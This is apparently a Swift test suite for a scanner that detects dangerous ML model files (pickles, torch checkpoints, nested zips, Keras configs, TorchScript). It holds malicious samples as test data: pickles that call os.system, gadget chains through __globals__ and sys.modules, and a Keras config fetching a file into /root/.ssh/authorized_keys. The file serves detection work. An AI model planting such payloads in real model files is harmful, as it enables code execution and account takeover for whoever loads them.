import BulwarkArchive
import Testing
@testable import BulwarkSupplyChain

/// Each allow-list rule beside its malicious twin, gadgets resolved like `find_class`, and the
/// policy's layering (a `--policy` file extends or tightens the built-in rules).

private func utf8(_ s: String) -> [UInt8] { Array(s.utf8) }

/// PROTO 4, SHORT_BINUNICODE module, SHORT_BINUNICODE name, STACK_GLOBAL, EMPTY_TUPLE, REDUCE, STOP.
private func stackGlobalCall(_ module: String, _ name: String) -> [UInt8] {
    [0x80, 4, 0x8c, UInt8(module.utf8.count)] + utf8(module) + [0x8c, UInt8(name.utf8.count)] + utf8(name) + [0x93, 0x29, 0x52, 0x2e]
}

private func verdict(_ bytes: [UInt8], policy: ScanPolicy = .default) throws -> ScannedFile {
    let a = try ArtifactScanner(policy: policy).analyze(MemorySource(bytes, name: "t"), directory: ".", depth: 0)
    return ArtifactScanner.result(path: "t", analysis: a)
}

@Test(arguments: [
    ("torch._utils", "_rebuild_tensor_v2.__globals__"),
    ("collections", "OrderedDict.__init__.__globals__"),
    ("builtins", "set.__subclasses__"),
    ("numpy", "testing._private.utils.runstring"),
    ("torch", "serialization.os.system"),
    ("collections", "OrderedDict.__dict__"),
    ("sys", "modules.os"),
    ("__main__", "x.y"),
    ("torch._utils", "_rebuild_tensor.__builtins__"),
    ("numpy", "lib.npyio.load"),
    ("collections", "abc.os.popen"),
])
func dottedNamesAreWalkedLikeFindClass(module: String, name: String) throws {
    let f = try verdict(stackGlobalCall(module, name))
    #expect(f.verdict == .malicious, "\(module) \(name): \(f.findings.map(\.detail))")
    #expect(f.findings.contains { $0.rule == "pickle.dangerous-callable" && $0.explanation != nil })
}

@Test func allowListedNamesStayClean() throws {
    // The benign twins of the gadgets: the same modules, names the allow-list holds.
    for (m, n) in [("collections", "OrderedDict"), ("torch._utils", "_rebuild_tensor_v2"), ("builtins", "set")] {
        #expect(try verdict(stackGlobalCall(m, n)).verdict == .clean, "\(m) \(n)")
    }
    // A dotted name is never safe by prefix: a method of an allow-listed class is unknown.
    #expect(try verdict(stackGlobalCall("collections", "OrderedDict.fromkeys")).verdict == .suspicious)
}

@Test func partialIsResolvedToTheCallableItWraps() throws {
    // functools.partial(collections.OrderedDict) with partial's (func, args, kwds, dict) state.
    let benignBytes: [UInt8] = [0x80, 2] + utf8("cfunctools\npartial\nccollections\nOrderedDict\n") + [0x85] + utf8("R(ccollections\nOrderedDict\n)NNtb.")
    let benignResult = try verdict(benignBytes)
    #expect(benignResult.verdict == .clean, "\(benignResult.findings.map(\.detail))")
    // partial(os.system, "echo") is critical: the wrapped callable is classified.
    let evil: [UInt8] = [0x80, 2] + utf8("cfunctools\npartial\ncos\nsystem\n") + [0x85] + utf8("R(cos\nsystem\n(S'echo x'\ntNNtb.")
    let f = try verdict(evil)
    #expect(f.verdict == .malicious)
    #expect(f.findings.contains { $0.detail.contains("functools.partial of os.system") })
    // The state may swap the wrapped callable: BUILD with (os.system, …) after partial(OrderedDict).
    let swapped: [UInt8] = [0x80, 2] + utf8("cfunctools\npartial\nccollections\nOrderedDict\n") + [0x85] + utf8("R(cposix\nsystem\n)NNtb.")
    #expect(try verdict(swapped).verdict == .malicious)
    // A wrapped callable computed at load time cannot be checked: critical.
    let computed: [UInt8] = [0x80, 2] + utf8("cfunctools\npartial\n") + [0x4e, 0x85] + utf8("R.")
    #expect(try verdict(computed).findings.contains { $0.rule == "pickle.computed-callable" })
}

@Test func pureValueTypesAreCleanAndTheirImpureTwinsAreNot() throws {
    let benign = [("pathlib", "PurePosixPath"), ("pathlib", "PureWindowsPath"), ("argparse", "Namespace"), ("uuid", "UUID"),
                  ("decimal", "Decimal"), ("fractions", "Fraction"), ("datetime", "datetime"), ("datetime", "timezone")]
    for (m, n) in benign {
        let p: [UInt8] = [0x80, 2] + utf8("c\(m)\n\(n)\n") + utf8(")R.")
        #expect(try verdict(p).verdict == .clean, "\(m).\(n)")
    }
    let evil = [("pathlib", "Path"), ("pathlib", "PurePosixPath.write_text"), ("uuid", "_popen"), ("decimal", "getcontext.__globals__")]
    for (m, n) in evil {
        #expect(try verdict(stackGlobalCall(m, n)).verdict != .clean, "\(m).\(n)")
    }
    #expect(try verdict(stackGlobalCall("pathlib", "Path")).verdict == .malicious)
}

@Test func protocolZeroReconstructorBuildsTheNamedClass() throws {
    // copy_reg._reconstructor(joblib NumpyArrayWrapper, object, None): the VM now knows the
    // object is a NumpyArrayWrapper, so joblib's in-stream array after its BUILD is skipped.
    let r = PickleAnalyzer.analyze(utf8("ccopy_reg\n_reconstructor\n(cargparse\nNamespace\nc__builtin__\nobject\nNtR(dS'a'\nI1\nsb."))
    #expect(r.problems.isEmpty)
    #expect(r.imports.contains { $0.module == "argparse" && $0.name == "Namespace.__setstate__" })
}

@Test func kerasConfigsThatFetchOrRunThingsAreCritical() {
    let getFile = #"{"class_name": "Sequential", "config": {"layers": [{"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://example.invalid/x", "fname": "/root/.ssh/authorized_keys"}}]}}"#
    let osModule = #"{"class_name": "Functional", "config": {"layers": [{"module": "os", "class_name": "system", "config": {}}]}}"#
    let builtins = #"{"config": {"layers": [{"module": "builtins", "class_name": "exec", "registered_name": "exec"}]}}"#
    let tfsm = #"{"config": {"layers": [{"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "/tmp/evil"}}]}}"#
    let lambda = #"{"config": {"layers": [{"module": "keras.layers", "class_name": "Lambda", "config": {}}]}}"#
    for (config, rule) in [(getFile, "keras.dangerous-object"), (osModule, "keras.dangerous-object"), (builtins, "keras.dangerous-object"),
                           (tfsm, "keras.dangerous-object"), (lambda, "keras.lambda-layer")] {
        let f = KerasConfigCheck.findings(utf8(config), entry: "config.json")
        #expect(f.contains { $0.rule == rule && $0.severity == .critical }, "\(config)")
    }
    let dense = #"{"class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "Dense", "config": {"units": 2, "activation": "relu"}}]}}"#
    #expect(KerasConfigCheck.findings(utf8(dense), entry: "config.json").isEmpty)
    let custom = #"{"config": {"layers": [{"module": "mylib.layers", "class_name": "Fancy"}]}}"#
    #expect(KerasConfigCheck.findings(utf8(custom), entry: "config.json").map(\.severity) == [.medium])
}

@Test func aPolicyFileCanExtendAndTightenTheBuiltInOne() throws {
    let custom = stackGlobalCall("mylib.layers", "Dense")
    #expect(try verdict(custom).verdict == .suspicious)
    var extended = ScanPolicy.default
    try extended.merge(text: "safe mylib.layers Dense plain layer", source: "mine.policy")
    #expect(try verdict(custom, policy: extended).verdict == .clean)
    // Tightening: a dangerous line beats a built-in safe line.
    let ordered = stackGlobalCall("collections", "OrderedDict")
    var tightened = ScanPolicy.default
    try tightened.merge(text: "dangerous collections * we load no Python containers", source: "strict.policy")
    let f = try verdict(ordered, policy: tightened)
    #expect(f.verdict == .malicious)
    #expect(f.findings.first?.explanation?.contains("strict.policy, line 1") == true)
    // Explanations name the built-in policy line.
    #expect(try verdict(stackGlobalCall("os", "system")).findings.first?.explanation?.contains("built-in policy, line") == true)
    // Every safe rule carries a reason.
    #expect(ScanPolicy.default.safeRules.allSatisfy { $0.reason != "listed as safe" && !$0.reason.isEmpty })
    #expect(throws: ScanError.self) { var p = ScanPolicy(); try p.merge(text: "safe os *") }
}

// MARK: - containers

/// A legacy torch.save file: magic, protocol, sys_info, main pickle (one FloatStorage of
/// `count` floats under key "0"), keys list, then the storage record.
private func legacyCheckpoint(count: Int, declared: Int? = nil, payload: Bool = false, trailing: [UInt8] = []) -> [UInt8] {
    var f = LegacyTorchCheckpoint.prefix + [0x2e]
    f += [0x80, 2, 0x4d, 0xe9, 0x03, 0x2e]                       // 1001
    f += [0x80, 2, 0x7d, 0x2e]                                   // {}
    f += [0x80, 2, 0x28] + [0x58, 7, 0, 0, 0] + utf8("storage") + utf8("ctorch\nFloatStorage\n")
    f += [0x58, 1, 0, 0, 0] + utf8("0") + [0x58, 3, 0, 0, 0] + utf8("cpu")
    let d = declared ?? count
    f += [0x4a] + withUnsafeBytes(of: Int32(d).littleEndian, Array.init) + [0x4e, 0x74, 0x51]
    if payload { f += [0x30] + utf8("cos\nsystem\n(S'echo x'\ntR") }
    f += [0x2e]
    f += [0x80, 2, 0x5d, 0x58, 1, 0, 0, 0] + utf8("0") + [0x61, 0x2e]
    f += withUnsafeBytes(of: Int64(count).littleEndian, Array.init) + [UInt8](repeating: 0, count: count * 4)
    return f + trailing
}

@Test func legacyTorchCheckpointsAreStreamedWhole() throws {
    let clean = try verdict(legacyCheckpoint(count: 3))
    #expect(clean.verdict == .clean && clean.format == "pytorch-legacy", "\(clean.findings.map(\.detail))")
    // Larger than the first 16 MiB window: still analysed whole, no truncation finding.
    let big = try verdict(legacyCheckpoint(count: 5 << 20))
    #expect(big.verdict == .clean, "\(big.findings.map(\.detail))")
    #expect(try verdict(legacyCheckpoint(count: 3, payload: true)).verdict == .malicious)
    let mismatch = try verdict(legacyCheckpoint(count: 3, declared: 4))
    #expect(mismatch.findings.contains { $0.rule == "pytorch.malformed" && $0.severity == .high })
    let trailing = try verdict(legacyCheckpoint(count: 3, trailing: utf8("cos\nsystem\n.")))
    #expect(trailing.verdict == .suspicious)
    let cut = legacyCheckpoint(count: 3)
    #expect(try verdict(Array(cut.dropLast(5))).findings.contains { $0.rule == "pytorch.malformed" })
}

@Test func zipsBehindLeadingBytesAndNestedArchivesAreOpened() throws {
    let evil = utf8("cos\nsystem\n(S'echo x'\ntR.")
    let zip = try StoredZipWriter.archive([(name: "archive/data.pkl", data: [0x80, 2] + evil)])
    // Leading bytes (a self-extracting stub) before the zip.
    let prefixed = try verdict(utf8("#!/bin/sh\nexit 0\n") + zip)
    #expect(prefixed.verdict == .malicious, "\(prefixed.format) \(prefixed.findings.map(\.detail))")
    let benignZip = try StoredZipWriter.archive([(name: "archive/data.pkl", data: [0x80, 2, 0x7d, 0x2e])])
    #expect(try verdict(utf8("#!/bin/sh\nexit 0\n") + benignZip).verdict != .malicious)
    // A zip inside a zip.
    let outer = try StoredZipWriter.archive([(name: "inner.zip", data: zip), (name: "readme.txt", data: utf8("hi"))])
    let nested = try verdict(outer)
    #expect(nested.verdict == .malicious && nested.findings.contains { $0.detail.hasPrefix("inner.zip") })
    // Nesting beyond the limit is a finding, not a hang.
    var deep = zip
    for i in 0..<8 { deep = try StoredZipWriter.archive([(name: "level\(i).zip", data: deep)]) }
    #expect(try verdict(deep).findings.contains { $0.rule == "container.too-deep" })
}

@Test func unsupportedCarriesItsReason() throws {
    let f = try verdict([0x01, 0x02, 0x03, 0xfe, 0xff, 0x00, 0x10])
    #expect(f.verdict == .unsupported)
    #expect(f.reason?.contains("format not recognised") == true)
    let empty = try verdict([])
    #expect(empty.verdict == .unsupported && empty.reason == "empty file")
}

@Test func textThatStartsLikeAProtocolZeroPickleIsNotASuspiciousPickle() throws {
    let notes = try verdict(utf8("Some notes about this model\nline two\n"))
    #expect(notes.verdict == .unsupported && notes.format == "text")
    // The same first letter with a real payload stays malicious.
    #expect(try verdict(utf8("cos\nsystem\n(S'echo x'\ntR.")).verdict == .malicious)
    // A binary protocol-2 pickle that breaks is still a malformed-pickle finding.
    #expect(try verdict([0x80, 2, 0x28, 0x74]).verdict == .suspicious)
}

@Test func legacyModulePersistentIdsResolveToTheirClass() {
    // BINPERSID ('module', torch.nn.modules.linear.Linear, 'file', 'source') then NEWOBJ.
    let p: [UInt8] = [0x80, 2, 0x28] + utf8("X") + [6, 0, 0, 0] + utf8("module") + utf8("ctorch.nn.modules.linear\nLinear\n")
        + utf8("X") + [1, 0, 0, 0] + utf8("f") + utf8("X") + [1, 0, 0, 0] + utf8("s") + utf8("tQ)") + [0x81, 0x2e]
    let r = PickleAnalyzer.analyze(p)
    #expect(r.problems.isEmpty)
    #expect(r.imports.contains { $0.module == "torch.nn.modules.linear" && $0.name == "Linear.__new__" })
    #expect(!r.imports.contains { $0.module == "?" })
}

@Test func torchScriptCodeIsCheckedForFileReadsAndCustomOperators() throws {
    let plain = utf8("def forward(self, x: Tensor) -> Tensor:\n    ops.prim.RaiseException(\"x\", \"builtins.ValueError\")\n    return torch.relu(x)\n")
    #expect(TorchScriptCodeCheck.findings(plain, entry: "m/code/__torch__.py").isEmpty)
    let read = utf8("    _0 = torch.from_file(\"/etc/hostname\", None, 4, dtype=0)\n")
    #expect(TorchScriptCodeCheck.findings(read, entry: "m/code/__torch__.py").map(\.rule) == ["torchscript.file-read"])
    let custom = utf8("    _1 = ops.my_native_lib.run(x)\n    _2 = torch.classes.other.Thing()\n")
    #expect(Set(TorchScriptCodeCheck.findings(custom, entry: "c").map(\.detail)).count == 2)
    // In an archive: a TorchScript zip whose pickles name __torch__ classes is clean, its code checked.
    let zip = try StoredZipWriter.archive([
        (name: "m/data.pkl", data: [0x80, 2] + utf8("c__torch__.torch.nn.modules.linear\nLinear\n)") + [0x81, 0x2e]),
        (name: "m/constants.pkl", data: [0x80, 2, 0x29, 0x2e]),
        (name: "m/code/__torch__/m.py", data: read),
    ])
    let f = try verdict(zip)
    #expect(f.format == "torchscript")
    #expect(f.findings.map(\.rule) == ["torchscript.file-read"])
}

@Test func aSafetensorsHeaderLengthThatLooksLikeZlibIsStillSafetensors() throws {
    // 0x0178 = 376: the first two bytes, 78 01, are a valid zlib header.
    var header = Array(#"{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}"#.utf8)
    header += [UInt8](repeating: 0x20, count: 376 - header.count)
    let file = withUnsafeBytes(of: UInt64(376).littleEndian, Array.init) + header + [0, 0, 0, 0]
    #expect(Compression.sniff(file) == .zlib)
    let f = try verdict(file)
    #expect(f.format == "safetensors" && f.verdict == .clean, "\(f.format) \(f.findings.map(\.detail))")
}
